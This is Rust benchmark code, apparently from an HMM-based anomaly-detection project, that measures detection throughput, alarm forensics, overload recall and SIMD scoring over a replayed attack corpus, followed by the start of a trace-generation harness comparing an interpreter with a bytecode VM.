            "4-shard aggregate must be at least 2x the 1-shard baseline, got {scaling_4x:.2}x"
        );

        let partition_rows = shard_partition_s4
            .iter()
            .map(|p| format!("[{}, {}, {}, {}]", p[0], p[1], p[2], p[3]))
            .collect::<Vec<_>>()
            .join(", ");
        format!(
            "    \"service\": true,\n    \
             \"service_sessions\": {n_sessions},\n    \
             \"service_events\": {m_events},\n    \
             \"service_frames\": {frame_count},\n    \
             \"service_frame_bytes\": {},\n    \
             \"service_shard_counts\": [1, 2, 4, 8],\n    \
             \"service_events_per_sec\": [{}],\n    \
             \"service_serial_events_per_sec\": [{}],\n    \
             \"service_parallelism_model\": \"critical-path\",\n    \
             \"service_scaling_4x\": {scaling_4x:.2},\n    \
             \"service_alerts\": {service_alerts},\n    \
             \"service_verdicts_match_single\": true,\n    \
             \"service_swap_epoch\": {swap_epoch},\n    \
             \"service_swap_epoch_coherent\": true,\n    \
             \"service_shard_events_s4\": [{}],\n    \
             \"service_shard_verdict_partition_s4\": [{partition_rows}],\n",
            frames.len(),
            aggregate_eps
                .iter()
                .map(|e| format!("{e:.0}"))
                .collect::<Vec<_>>()
                .join(", "),
            serial_eps
                .iter()
                .map(|e| format!("{e:.0}"))
                .collect::<Vec<_>>()
                .join(", "),
            shard_events_s4
                .iter()
                .map(u64::to_string)
                .collect::<Vec<_>>()
                .join(", "),
        )
    } else {
        String::new()
    };

    // Alert-forensics gate: replay the §V-C attack corpus on the banking
    // and hospital applications through a forensics-armed MonitorRuntime.
    // Every alarm audit record must carry a ForensicReport with non-empty
    // top-k attribution and the alerting window's delta-vs-threshold, the
    // records (forensics included) must be bit-identical at 1, 4 and 8
    // worker threads, and the benign path with forensics armed must stay
    // within a few percent of the disabled runtime (paired-round timing).
    let forensics_fields = if forensics {
        let corpus_cases = if smoke { 2 } else { 6 };
        let corpus = build_attack_corpus(cases, corpus_cases, max_iterations, None);
        let corpus_profiles = corpus.profiles;
        let attack_sessions = corpus.attack_sessions;
        let attack_stream = interleave(&attack_sessions, 0xF0CE);

        let run_corpus = |threads: usize| -> Vec<AuditRecord> {
            let sink = Arc::new(MemoryAuditSink::new());
            let mut runtime = MonitorRuntime::new(Arc::clone(&corpus_profiles))
                .with_forensics(ForensicsConfig::default())
                .with_audit(Arc::new(AuditLog::new(sink.clone())))
                .with_threads(threads);
            runtime.ingest_stream(&attack_stream);
            runtime.finish();
            sink.records()
        };
        let records = run_corpus(1);
        assert!(!records.is_empty(), "attack corpus produced no alarms");
        for record in &records {
            let report = record
                .forensics
                .as_ref()
                .expect("every alarm audit record carries a ForensicReport");
            assert!(
                !report.top_deviant.is_empty(),
                "alarm forensics must name at least one deviant transition"
            );
            assert_eq!(
                report.alert_delta(),
                Some(record.log_likelihood - record.threshold),
                "flight recorder must capture the alerting window's delta"
            );
        }
        let jsonl: Vec<String> = records.iter().map(|r| r.to_jsonl()).collect();
        let mut bit_identical = true;
        for threads in [4usize, 8] {
            let other: Vec<String> = run_corpus(threads).iter().map(|r| r.to_jsonl()).collect();
            bit_identical &= other == jsonl;
        }
        assert!(
            bit_identical,
            "forensic reports diverged across worker thread counts"
        );

        // Ranked per-family report: worst window (lowest delta) first,
        // with its top deviant transitions.
        let mut by_family: BTreeMap<&str, Vec<&AuditRecord>> = BTreeMap::new();
        for record in &records {
            let family = record.session.split('#').next().unwrap_or(&record.session);
            by_family.entry(family).or_default().push(record);
        }
        println!("== Alert forensics (attack corpus) ==");
        println!(
            "{} attack families, {} attacked sessions, {} alarm records, \
             bit-identical at 1/4/8 threads: {bit_identical}",
            by_family.len(),
            attack_sessions.len(),
            records.len(),
        );
        for (family, group) in &by_family {
            let worst = group
                .iter()
                .min_by(|a, b| {
                    (a.log_likelihood - a.threshold).total_cmp(&(b.log_likelihood - b.threshold))
                })
                .expect("family groups are non-empty");
            let report = worst.forensics.as_ref().expect("checked above");
            println!(
                "-- {family}: {} alarms; worst window {} ({}), delta {:+.3}",
                group.len(),
                report.window_index,
                worst.flag,
                worst.log_likelihood - worst.threshold,
            );
            for t in report.top_deviant.iter().take(3) {
                println!(
                    "     step {:<2} {} -> {}: log_prob {:.3}, deficit {:+.3}",
                    t.step,
                    t.from.as_deref().unwrap_or("<pi>"),
                    t.call,
                    t.log_prob,
                    t.deficit,
                );
            }
        }
        let artifact = "target/FORENSICS_detect.jsonl";
        std::fs::write(artifact, jsonl.join("\n") + "\n").expect("write forensic artifact");
        println!("wrote {} forensic records to {artifact}", records.len());

        // Benign-path overhead: the apps' own training sessions through a
        // forensics-armed vs a plain runtime, timed adjacently in paired
        // rounds (drift cancels within a pair); the recorded ratio is the
        // best pairing.
        let benign_stream = interleave(&corpus.benign_sessions, 0xBE9);
        let benign_events = benign_stream.len();
        let time_benign = |armed: bool| -> (f64, usize) {
            let mut runtime = MonitorRuntime::new(Arc::clone(&corpus_profiles));
            if armed {
                runtime = runtime.with_forensics(ForensicsConfig::default());
            }
            let start = Instant::now();
            runtime.ingest_stream(&benign_stream);
            let alerts: usize = runtime.finish().iter().map(|r| r.alerts.len()).sum();
            (benign_events as f64 / start.elapsed().as_secs_f64(), alerts)
        };
        let (_, benign_alerts) = time_benign(true); // warm-up
        let rounds = if smoke { 4 } else { max_runs.max(8) };
        let mut armed_eps = 0.0f64;
        let mut plain_eps = 0.0f64;
        let mut overhead_ratio = 0.0f64;
        for _ in 0..rounds {
            let (on, on_alerts) = time_benign(true);
            let (off, off_alerts) = time_benign(false);
            assert_eq!(on_alerts, benign_alerts, "forensics must not change alerts");
            assert_eq!(
                off_alerts, benign_alerts,
                "benign runs must be deterministic"
            );
            armed_eps = armed_eps.max(on);
            plain_eps = plain_eps.max(off);
            overhead_ratio = overhead_ratio.max(on / off);
        }
        println!(
            "benign path ({benign_events} events): forensics on {armed_eps:>12.0} events/sec, \
             off {plain_eps:>12.0} events/sec (on/off ratio {overhead_ratio:.3})\n"
        );
        if overhead_ratio < 0.95 {
            eprintln!(
                "warning: forensics benign-path ratio {overhead_ratio:.3} below the 0.95 target"
            );
        }

        let family_alarms = by_family
            .iter()
            .map(|(family, group)| format!("\"{family}\": {}", group.len()))
            .collect::<Vec<_>>()
            .join(", ");
        format!(
            "    \"forensics\": true,\n    \
             \"forensics_families\": {},\n    \
             \"forensics_sessions\": {},\n    \
             \"forensics_alarm_records\": {},\n    \
             \"forensics_nonempty_topk\": true,\n    \
             \"forensics_family_alarms\": {{{family_alarms}}},\n    \
             \"forensics_bit_identical_threads\": {bit_identical},\n    \
             \"forensics_benign_events_per_sec\": {armed_eps:.0},\n    \
             \"forensics_disabled_events_per_sec\": {plain_eps:.0},\n    \
             \"forensics_benign_overhead_ratio\": {overhead_ratio:.3},\n",
            by_family.len(),
            attack_sessions.len(),
            records.len(),
        )
    } else {
        String::new()
    };

    // Overload-control gate: the attack corpus rides on top of the benign
    // training sessions through a monitor whose scoring budget is half
    // its hard ingest bound — a sustained 2× overload. The tier scheduler
    // must keep session recall at 1.0 (every session the unconstrained
    // monitor alarms on still alarms), stay bit-identical across worker
    // thread counts, and never buffer past the bound.
    let overload_fields = if overload {
        let corpus_cases = if smoke { 2 } else { 6 };
        let corpus = build_attack_corpus(
            cases,
            corpus_cases,
            max_iterations,
            Some(KernelConfig::Sparse {
                sparse: SparseConfig::default(),
            }),
        );
        let mut load_sessions = corpus.attack_sessions.clone();
        load_sessions.extend(corpus.benign_sessions.iter().cloned());
        let stream = interleave(&load_sessions, 0x10AD);

        let capacity = 64usize;
        let budget = capacity / 2; // every flush carries 2× the budget
        let overload_config = OverloadConfig {
            capacity,
            shed_policy: ShedPolicy::Backpressure,
            budget,
            ..OverloadConfig::default()
        };
        let run = |threads: usize, config: OverloadConfig| -> (Vec<SessionReport>, Registry, f64) {
            let obs = Registry::new();
            let mut runtime = MonitorRuntime::new(Arc::clone(&corpus.profiles))
                .with_threads(threads)
                .with_registry(&obs)
                .with_config(RuntimeConfig {
                    mode: ScoringMode::Incremental,
                    overload: config,
                    ..RuntimeConfig::default()
                });
            let start = Instant::now();
            runtime.ingest_stream(&stream);
            let reports = runtime.finish();
            let eps = stream.len() as f64 / start.elapsed().as_secs_f64();
            (reports, obs, eps)
        };

        // Unconstrained baseline: same kernel and mode, ladder disarmed.
        let (baseline, _, _) = run(1, OverloadConfig::default());
        let baseline_alarmed: BTreeMap<(String, String), usize> = baseline
            .iter()
            .filter(|r| r.alarms().count() > 0)
            .map(|r| ((r.app.clone(), r.session.clone()), r.alarms().count()))
            .collect();
        let baseline_alarms: usize = baseline.iter().map(|r| r.alarms().count()).sum();
        assert!(
            !baseline_alarmed.is_empty(),
            "attack corpus must alarm the unconstrained monitor"
        );

        let (reports, obs, overload_eps) = run(1, overload_config);
        let alarm_count =
            |reports: &[adprom_core::SessionReport], key: &(String, String)| -> usize {
                reports
                    .iter()
                    .find(|r| r.app == key.0 && r.session == key.1)
                    .map_or(0, |r| r.alarms().count())
            };
        let recalled = baseline_alarmed
            .keys()
            .filter(|key| alarm_count(&reports, key) > 0)
            .count();
        let recall = recalled as f64 / baseline_alarmed.len() as f64;
        assert!(
            (recall - 1.0).abs() < f64::EPSILON,
            "overload lost alarms: only {recalled}/{} alarmed sessions recalled",
            baseline_alarmed.len()
        );
        let alarms: usize = reports.iter().map(|r| r.alarms().count()).sum();
        assert!(
            alarms >= baseline_alarms,
            "lower-bound classification can only add alarms"
        );
        for report in &reports {
            if report.alarms().count() > 0 {
                assert_eq!(
                    report.tier,
                    ScoringTier::Full,
                    "alarmed sessions must end pinned at the full tier"
                );
            }
        }

        let snap = obs.snapshot();
        let high_water = snap.gauge("monitor.queue.depth").unwrap_or(0);
        assert!(
            high_water <= capacity as i64,
            "queue high-water {high_water} breached the hard bound {capacity}"
        );
        let tier_assigned = [
            snap.counter("monitor.tier.full.assigned").unwrap_or(0),
            snap.counter("monitor.tier.beam.assigned").unwrap_or(0),
            snap.counter("monitor.tier.spot.assigned").unwrap_or(0),
        ];
        let tier_windows = [
            snap.counter("monitor.tier.full.windows").unwrap_or(0),
            snap.counter("monitor.tier.beam.windows").unwrap_or(0),
            snap.counter("monitor.tier.spot.windows").unwrap_or(0),
        ];
        let spot_skipped = snap.counter("monitor.tier.spot.skipped").unwrap_or(0);
        let escalations = snap.counter("monitor.tier.escalations").unwrap_or(0);
        let backpressure = snap.counter("monitor.backpressure.flushes").unwrap_or(0);
        let episodes = snap.counter("monitor.overload.episodes").unwrap_or(0);
        assert!(backpressure > 0, "2x load must trip the hard bound");

        // Thread determinism: every tier, shed, and verdict decision
        // rides the serial ingest clock.
        let rendered = format!("{reports:?}");
        let mut bit_identical = true;
        for threads in [4usize, 8] {
            let (other, _, _) = run(threads, overload_config);
            bit_identical &= format!("{other:?}") == rendered;
        }
        assert!(
            bit_identical,
            "overload schedule diverged across worker thread counts"
        );

        // DropNewest sub-run: benign traffic of demoted sessions may be
        // shed; dangerous facts and alarmed sessions never are, so
        // session recall must hold even while events are dropped.
        let (shed_reports, shed_obs, _) = run(
            1,
            OverloadConfig {
                shed_policy: ShedPolicy::DropNewest,
                ..overload_config
            },
        );
        let shed_recalled = baseline_alarmed
            .keys()
            .filter(|key| alarm_count(&shed_reports, key) > 0)
            .count();
        let shed_recall = shed_recalled as f64 / baseline_alarmed.len() as f64;
        assert!(
            (shed_recall - 1.0).abs() < f64::EPSILON,
            "shedding lost an alarmed session"
        );
        let shed_events = shed_obs
            .snapshot()
            .counter("monitor.shed.events")
            .unwrap_or(0);

        println!("== Overload control (attack corpus at 2x scoring budget) ==");
        println!(
            "{} sessions ({} attacked), {} events; capacity {capacity}, budget {budget}",
            load_sessions.len(),
            corpus.attack_sessions.len(),
            stream.len(),
        );
        println!(
            "recall {recall:.3} ({recalled}/{} alarmed sessions; {alarms} alarms vs \
             {baseline_alarms} baseline)",
            baseline_alarmed.len()
        );
        println!(
            "tiers assigned full/beam/spot: {}/{}/{}; windows {}/{}/{} \
             (+{spot_skipped} spot-skipped), {escalations} escalations",
            tier_assigned[0],
            tier_assigned[1],
            tier_assigned[2],
            tier_windows[0],
            tier_windows[1],
            tier_windows[2],
        );
        println!(
            "queue high-water {high_water}/{capacity}, {backpressure} backpressure flushes, \
             {episodes} overload episode(s); DropNewest shed {shed_events} events, \
             recall {shed_recall:.3}"
        );
        println!(
            "bit-identical at 1/4/8 threads: {bit_identical}; overloaded throughput \
             {overload_eps:.0} events/sec\n"
        );

        format!(
            "    \"overload\": true,\n    \
             \"overload_capacity\": {capacity},\n    \
             \"overload_budget\": {budget},\n    \
             \"overload_sessions\": {},\n    \
             \"overload_events\": {},\n    \
             \"overload_recall\": {recall:.3},\n    \
             \"overload_baseline_alarms\": {baseline_alarms},\n    \
             \"overload_alarms\": {alarms},\n    \
             \"overload_tier_assigned\": [{}, {}, {}],\n    \
             \"overload_tier_windows\": [{}, {}, {}],\n    \
             \"overload_spot_skipped\": {spot_skipped},\n    \
             \"overload_escalations\": {escalations},\n    \
             \"overload_backpressure_flushes\": {backpressure},\n    \
             \"overload_episodes\": {episodes},\n    \
             \"overload_queue_high_water\": {high_water},\n    \
             \"overload_shed_events\": {shed_events},\n    \
             \"overload_shed_recall\": {shed_recall:.3},\n    \
             \"overload_bit_identical_threads\": {bit_identical},\n    \
             \"overload_events_per_sec\": {overload_eps:.0},\n",
            load_sessions.len(),
            stream.len(),
            tier_assigned[0],
            tier_assigned[1],
            tier_assigned[2],
            tier_windows[0],
            tier_windows[1],
            tier_windows[2],
        )
    } else {
        String::new()
    };

    // SIMD-shaped scoring gate: the batched lane-major sparse kernel in
    // f64 against the f32 fast path (guard-band rescore in f64), timed
    // adjacently in paired rounds so machine drift cancels within a
    // pair. The f32-verified run must reproduce the pure-f64 flags
    // window for window — the guard band sends every near-threshold
    // window back to the exact kernel.
    let simd_fields = if simd {
        let sparse_kernel = KernelConfig::Sparse {
            sparse: SparseConfig::default(),
        };
        let simd_obs = Registry::new();
        let f64_engine = DetectionEngine::new(&profile)
            .with_registry(&simd_obs)
            .with_kernel(sparse_kernel);
        let f32_engine = DetectionEngine::new(&profile)
            .with_registry(&simd_obs)
            .with_kernel(sparse_kernel)
            .with_precision(Precision::f32_verified());
        let status = f32_engine.kernel_status().clone();
        assert_eq!(
            status.effective, "sparse",
            "flattened profile must keep the sparse kernel"
        );
        assert_eq!(status.precision, "f32-verified");
        let guard_band = match Precision::f32_verified() {
            Precision::F32Verified { guard_band } => guard_band,
            Precision::F64 => unreachable!(),
        };

        // Flag-equality gate first (also warms both engines), with the
        // guard-band counters snapshotted around exactly one pass so the
        // recorded accepted/rescored split is deterministic.
        let before = simd_obs.snapshot();
        let f64_reports: Vec<Vec<Alert>> = batch.iter().map(|t| f64_engine.scan(t)).collect();
        let f32_reports: Vec<Vec<Alert>> = batch.iter().map(|t| f32_engine.scan(t)).collect();
        let after = simd_obs.snapshot();
        let delta =
            |name: &str| after.counter(name).unwrap_or(0) - before.counter(name).unwrap_or(0);
        let f32_accepted = delta("detect.kernel.f32_windows");
        let f32_rescored = delta("detect.kernel.f32_rescored");
        let f64_flags: Vec<Flag> = f64_reports.iter().flatten().map(|a| a.flag).collect();
        let f32_flags: Vec<Flag> = f32_reports.iter().flatten().map(|a| a.flag).collect();
        let flags_match_f64 =
            f64_flags == f32_flags && flag_partition(&f64_reports) == flag_partition(&f32_reports);
        assert!(
            flags_match_f64,
            "f32-verified flag partition diverged from f64: {:?} vs {:?}",
            flag_partition(&f32_reports),
            flag_partition(&f64_reports),
        );

        // Kernel-level paired rounds on the identical window set: the
        // scalar per-window sparse kernel (the pre-batch "current" path)
        // against the batched f64 kernel and the batched f32 kernel,
        // timed back to back within each round so machine drift cancels
        // inside a pair. Throughput is normalized by the same `events`
        // denominator the scan numbers use.
        let sp = SparseTransitions::from_hmm(&profile.hmm, &SparseConfig::default());
        let fk = F32Kernel::from_sparse(&profile.hmm, &sp);
        let wrefs: Vec<&[usize]> = windows_enc.iter().map(|w| w.as_slice()).collect();
        let lanes = status.batch_width.max(1) as usize;
        let rounds = if smoke { 4 } else { max_runs.max(8) };
        let mut sparse_eps = 0.0f64;
        let mut batch64_eps = 0.0f64;
        let mut simd_eps = 0.0f64;
        let mut ratio = 0.0f64;
        let mut ratio64 = 0.0f64;
        let mut sink = 0.0f64;
        for _ in 0..rounds {
            let start = Instant::now();
            for w in &wrefs {
                sink += log_likelihood_sparse(&profile.hmm, &sp, w);
            }
            let scal_e = events as f64 / start.elapsed().as_secs_f64();
            let start = Instant::now();
            for c in wrefs.chunks(lanes) {
                sink += score_windows_batch(&profile.hmm, &sp, c, false).scores[0];
            }
            let b64_e = events as f64 / start.elapsed().as_secs_f64();
            let start = Instant::now();
            for c in wrefs.chunks(lanes) {
                sink += fk.score_windows_batch(c, false).scores[0];
            }
            let f32_e = events as f64 / start.elapsed().as_secs_f64();
            sparse_eps = sparse_eps.max(scal_e);
            batch64_eps = batch64_eps.max(b64_e);
            simd_eps = simd_eps.max(f32_e);
            ratio = ratio.max(f32_e / scal_e);
            ratio64 = ratio64.max(b64_e / scal_e);
        }
        std::hint::black_box(sink);

        // End-to-end scan throughput of the two engines (windowing, flag
        // logic and telemetry included), paired the same way.
        let mut scan_f64_eps = 0.0f64;
        let mut scan_simd_eps = 0.0f64;
        for _ in 0..rounds {
            let start = Instant::now();
            let f64_alerts: usize = batch.iter().map(|t| f64_engine.scan(t).len()).sum();
            let f64_e = events as f64 / start.elapsed().as_secs_f64();
            let start = Instant::now();
            let f32_alerts: usize = batch.iter().map(|t| f32_engine.scan(t).len()).sum();
            let f32_e = events as f64 / start.elapsed().as_secs_f64();
            assert_eq!(
                f64_alerts, f32_alerts,
                "alert counts must match across precisions"
            );
            scan_f64_eps = scan_f64_eps.max(f64_e);
            scan_simd_eps = scan_simd_eps.max(f32_e);
        }

        println!(
            "== SIMD-shaped scoring (sparse kernel, batch width {}, guard band {guard_band} \
             nats) ==",
            status.batch_width
        );
        println!("scalar sparse kernel      : {sparse_eps:>12.0} events/sec");
        println!(
            "batched f64 kernel        : {batch64_eps:>12.0} events/sec  ({ratio64:.2}x scalar)"
        );
        println!(
            "batched f32 kernel        : {simd_eps:>12.0} events/sec  \
             ({ratio:.2}x scalar sparse, {:.2}x serial dense)",
            simd_eps / serial_eps
        );
        println!(
            "engine scan               : f64 {scan_f64_eps:>10.0} ev/s, f32-verified \
             {scan_simd_eps:>10.0} ev/s ({:.2}x)",
            scan_simd_eps / scan_f64_eps
        );
        println!(
            "one pass: {f32_accepted} windows accepted in f32, {f32_rescored} rescored in f64; \
             flags match f64: {flags_match_f64}\n"
        );
        if ratio < 1.5 {
            eprintln!("warning: simd/sparse throughput ratio {ratio:.2} below the 1.5 target");
        }
        format!(
            "    \"simd\": true,\n    \
             \"precision\": \"{}\",\n    \
             \"batch_width\": {},\n    \
             \"guard_band_nats\": {guard_band},\n    \
             \"sparse_events_per_sec\": {sparse_eps:.0},\n    \
             \"batch_f64_events_per_sec\": {batch64_eps:.0},\n    \
             \"simd_events_per_sec\": {simd_eps:.0},\n    \
             \"speedup_simd_vs_sparse\": {ratio:.2},\n    \
             \"speedup_batch_f64_vs_sparse\": {ratio64:.2},\n    \
             \"speedup_simd_vs_dense\": {:.2},\n    \
             \"scan_f64_events_per_sec\": {scan_f64_eps:.0},\n    \
             \"scan_simd_events_per_sec\": {scan_simd_eps:.0},\n    \
             \"flags_match_f64\": {flags_match_f64},\n    \
             \"f32_windows_accepted\": {f32_accepted},\n    \
             \"f32_windows_rescored\": {f32_rescored},\n",
            status.precision,
            status.batch_width,
            simd_eps / serial_eps,
        )
    } else {
        String::new()
    };

    println!(
        "== Batched detection throughput (window n = {}, kernel = {kernel_mode}) ==",
        profile.window
    );
    println!("batch: {n_traces} traces, {events} events, {threads} worker thread(s)");
    println!("serial dense full-recompute : {serial_eps:>12.0} events/sec");
    if let Some((kernel_eps, _)) = kernel_serial {
        println!(
            "serial {kernel_mode:<6} kernel       : {kernel_eps:>12.0} events/sec  ({:.2}x dense)",
            kernel_eps / serial_eps
        );
    }
    println!(
        "parallel exact-windows      : {par_exact_eps:>12.0} events/sec  ({speedup_exact:.2}x)"
    );
    println!("parallel incremental        : {par_inc_eps:>12.0} events/sec  ({speedup_inc:.2}x)");
    println!("exact output identical to serial: {exact_identical}");
    if let Some(matches) = kernel_flags_match_dense {
        println!("{kernel_mode} flags match dense: {matches}");
    }
    println!(
        "Baum-Welch ({} windows): serial {bw_serial_secs:.3}s, parallel {bw_parallel_secs:.3}s \
         ({bw_speedup:.2}x on {threads} thread(s)), bit-identical: {bw_bit_identical}",
        windows_enc.len()
    );

    let snapshot = registry.snapshot();
    println!("\n== Pipeline metrics ==");
    println!(
        "windows scored {}  (normal {}, anomalous {}, data-leak {}, out-of-context {})",
        snapshot.counter("detect.windows_scored").unwrap_or(0),
        snapshot.counter("detect.flags.normal").unwrap_or(0),
        snapshot.counter("detect.flags.anomalous").unwrap_or(0),
        snapshot.counter("detect.flags.data_leak").unwrap_or(0),
        snapshot.counter("detect.flags.out_of_context").unwrap_or(0),
    );
    println!(
        "flagged windows by kernel: dense {}, sparse {}, beam {}",
        snapshot.counter("detect.kernel.dense").unwrap_or(0),
        snapshot.counter("detect.kernel.sparse").unwrap_or(0),
        snapshot.counter("detect.kernel.beam").unwrap_or(0),
    );
    if beam {
        println!(
            "beam: {} windows pruned, worst gap bound {} micro-nats",
            snapshot.counter("beam.windows_pruned").unwrap_or(0),
            snapshot
                .gauges
                .get("beam.gap_bound_micronats_max")
                .copied()
                .unwrap_or(0),
        );
    }
    if let Some(h) = snapshot.histograms.get("batch.trace_ns") {
        println!(
            "per-trace latency: p50 {:.0}ns p90 {:.0}ns p99 {:.0}ns max {}ns ({} traces)",
            h.p50, h.p90, h.p99, h.max, h.count
        );
    }
    println!(
        "sliding scorer: {} pushes, {} re-anchors",
        snapshot.counter("sliding.pushes").unwrap_or(0),
        snapshot.counter("sliding.reanchors").unwrap_or(0),
    );

    let kernel_fields = kernel_serial
        .map(|(kernel_eps, _)| {
            format!(
                "    \"sparse_exact_events_per_sec\": {kernel_eps:.0},\n    \
                 \"speedup_sparse_exact\": {:.2},\n    \
                 \"sparse_flags_match_dense\": {},\n",
                kernel_eps / serial_eps,
                kernel_flags_match_dense.unwrap_or(false),
            )
        })
        .unwrap_or_default();
    let partition = flag_partition(&serial_reports);
    // The unified KernelStatus every detection path now reports: what was
    // asked for, what is actually scoring windows, and whether validation
    // forced a dense downgrade.
    let kernel_status = exact.kernel_status();
    let entry = format!(
        "  {{\n    \"schema\": 2,\n    \"workload\": \"hospital\",\n    \
         \"mode\": \"{mode_label}\",\n    \"smoke\": {smoke},\n    \
         \"traces\": {n_traces},\n    \"events\": {events},\n    \
         \"window\": {window},\n    \"threads\": {threads},\n    \
         \"kernel\": \"{kernel_mode}\",\n    \
         \"kernel_requested\": \"{kernel_requested}\",\n    \
         \"kernel_effective\": \"{kernel_effective}\",\n    \
         \"kernel_fell_back\": {kernel_fell_back},\n    \
         \"alerts\": {serial_alerts},\n    \
         \"flag_partition\": [{}, {}, {}, {}],\n    \
         \"serial_exact_events_per_sec\": {serial_eps:.0},\n{kernel_fields}{fault_fields}{multiapp_fields}{service_fields}{forensics_fields}{overload_fields}{simd_fields}    \
         \"parallel_exact_events_per_sec\": {par_exact_eps:.0},\n    \
         \"parallel_incremental_events_per_sec\": {par_inc_eps:.0},\n    \
         \"speedup_parallel_exact\": {speedup_exact:.2},\n    \
         \"speedup_parallel_incremental\": {speedup_inc:.2},\n    \
         \"exact_output_identical_to_serial\": {exact_identical},\n    \
         \"bw_windows\": {bw_windows},\n    \
         \"bw_serial_secs\": {bw_serial_secs:.4},\n    \
         \"bw_parallel_secs\": {bw_parallel_secs:.4},\n    \
         \"bw_speedup_parallel\": {bw_speedup:.2},\n    \
         \"bw_parallel_bit_identical\": {bw_bit_identical}\n  }}",
        partition[0],
        partition[1],
        partition[2],
        partition[3],
        window = profile.window,
        kernel_requested = kernel_status.requested,
        kernel_effective = kernel_status.effective,
        kernel_fell_back = kernel_status.fell_back(),
        bw_windows = windows_enc.len(),
    );
    append_history("BENCH_detect.json", &entry);
    println!("\nappended run to BENCH_detect.json");

    if let Some(path) = &metrics_out {
        std::fs::write(path, snapshot.to_json()).expect("write metrics snapshot");
        println!("wrote metrics snapshot to {path}");
    }
}
