//! Trace-generation throughput harness: events/sec for the tree-walking
//! reference interpreter vs the bytecode VM on the CA-dataset workloads
//! (hospital and banking), plus one-off compile cost and the VM's
//! observability counters. Results are appended to the `BENCH_trace.json`
//! history (a JSON array, one entry per run) at the workspace root. Run
//! with:
//!
//! ```text
//! cargo run --release -p adprom-bench --bin bench_trace
//! ```
//!
//! Flags:
//!
//! * `--smoke` — small workloads and a short measurement budget, for CI.
//!
//! Every timed pairing first *asserts* that the two runtimes emit
//! bit-identical traces for every test case (same `CallEvent` sequence per
//! case), so the recorded speedup is for equivalent work, and the run
//! asserts `vm_vs_tree_walk_ratio >= 1.0` — the VM must never be slower
//! than the reference it replaces.

use adprom_analysis::analyze;
use adprom_client::ClientSession;
use adprom_obs::Registry;
use adprom_trace::{run_program, CallEvent, ExecConfig, TraceCollector, VmProgram};
use adprom_workloads::{banking, hospital, Workload};
use std::time::Instant;

/// Best-run throughput: repeats `run` until the measurement budget is
/// spent and reports events/sec of the fastest run (the least-noise
/// estimator on a shared machine). `run` returns (event count, seconds of
/// execution time) — per-case setup (database clone, session connect) is
/// excluded by the caller so the metric is trace *generation*, not setup.
fn throughput(max_runs: usize, budget_secs: f64, run: &dyn Fn() -> (usize, f64)) -> f64 {
    let (reference, _) = run(); // warm-up (also primes allocator and caches)
    let mut best = f64::INFINITY;
    let budget = Instant::now();
    let mut runs = 0;
    while runs < max_runs && budget.elapsed().as_secs_f64() < budget_secs {
        let (got, secs) = run();
        assert_eq!(got, reference, "non-deterministic event count");
        best = best.min(secs);
        runs += 1;
    }
    reference as f64 / best
}

/// Appends `entry` to the JSON history array at `path` (same format as
/// `BENCH_detect.json`: one object per run).
fn append_history(path: &str, entry: &str) {
    let history = match std::fs::read_to_string(path) {
        Ok(old) => {
            let old = old.trim();
            if let Some(stripped) = old.strip_prefix('[') {
                let inner = stripped
                    .strip_suffix(']')
                    .unwrap_or(stripped)
                    .trim()
                    .trim_end_matches(',');
                if inner.is_empty() {
                    format!("[\n{entry}\n]\n")
                } else {
                    format!("[\n{inner},\n{entry}\n]\n")
                }
            } else if old.starts_with('{') {
                format!("[\n{old},\n{entry}\n]\n")
            } else {
                format!("[\n{entry}\n]\n")
            }
        }
        Err(_) => format!("[\n{entry}\n]\n"),
    };
    std::fs::write(path, &history).expect("write BENCH_trace.json");
}

struct WorkloadResult {
    name: &'static str,
    cases: usize,
    events: usize,
    compile_micros: f64,
    instructions_per_event: f64,
    tree_eps: f64,
    vm_eps: f64,
    ratio: f64,
    events_identical: bool,
}

/// Benchmarks one workload: tree-walk vs precompiled-VM full trace
/// collection (every test case, fresh seeded database per case — the
/// Calls Collector's training-set sweep).
fn bench_workload(
    name: &'static str,
    workload: &Workload,
    max_runs: usize,
    budget_secs: f64,
) -> WorkloadResult {
    let analysis = analyze(&workload.program);
    let labels = &analysis.site_labels;
    let config = ExecConfig::default();
    // Seed the database once and clone the snapshot per case, so the timed
    // region is trace generation, not SQL DDL re-execution.
    let proto_db = (workload.make_db)();

    // Compile once; time it so the JSON records the amortized cost.
    let registry = Registry::new();
    let compile_start = Instant::now();
    let vm = VmProgram::with_registry(&workload.program, labels, &registry)
        .unwrap_or_else(|e| panic!("workload {name} failed to compile: {e}"));
    let compile_micros = compile_start.elapsed().as_secs_f64() * 1e6;

    // One sweep over every test case; only the execute-and-collect span is
    // timed (the database clone and session connect are identical setup
    // work in both modes and are excluded from the metric).
    let sweep_tree = || -> (Vec<Vec<CallEvent>>, f64) {
        let mut secs = 0.0;
        let traces = workload
            .test_cases
            .iter()
            .map(|case| {
                let mut session = ClientSession::connect(proto_db.clone());
                let mut collector = TraceCollector::new();
                let start = Instant::now();
                run_program(
                    &workload.program,
                    &mut session,
                    &case.inputs,
                    labels,
                    &mut collector,
                    &config,
                )
                .unwrap_or_else(|e| panic!("{name}/{} tree-walk failed: {e}", case.name));
                secs += start.elapsed().as_secs_f64();
                collector.into_events()
            })
            .collect();
        (traces, secs)
    };
    let sweep_vm = || -> (Vec<Vec<CallEvent>>, f64) {
        let mut secs = 0.0;
        let traces = workload
            .test_cases
            .iter()
            .map(|case| {
                let mut session = ClientSession::connect(proto_db.clone());
                let mut collector = TraceCollector::new();
                let start = Instant::now();
                vm.run(&mut session, &case.inputs, &mut collector, &config)
                    .unwrap_or_else(|e| panic!("{name}/{} vm failed: {e}", case.name));
                secs += start.elapsed().as_secs_f64();
                collector.into_events()
            })
            .collect();
        (traces, secs)
    };

    // Equivalence gate before any timing: identical traces, case for case.
    let (tree_traces, _) = sweep_tree();
    let (vm_traces, _) = sweep_vm();
    let events_identical = tree_traces == vm_traces;
    assert!(
        events_identical,
        "{name}: VM traces diverged from the tree-walk reference"
    );
    let events: usize = tree_traces.iter().map(Vec::len).sum();

    let tree_eps = throughput(max_runs, budget_secs, &|| {
        let (traces, secs) = sweep_tree();
        (traces.iter().map(Vec::len).sum(), secs)
    });
    let vm_eps = throughput(max_runs, budget_secs, &|| {
        let (traces, secs) = sweep_vm();
        (traces.iter().map(Vec::len).sum(), secs)
    });
    let ratio = vm_eps / tree_eps;

    let snap = registry.snapshot();
    let vm_events = snap.counter("trace.vm.events").unwrap_or(0);
    let vm_instructions = snap.counter("trace.vm.instructions").unwrap_or(0);
    let instructions_per_event = if vm_events > 0 {
        vm_instructions as f64 / vm_events as f64
    } else {
        0.0
    };

    println!(
        "== {name}: trace generation (window of {} cases) ==",
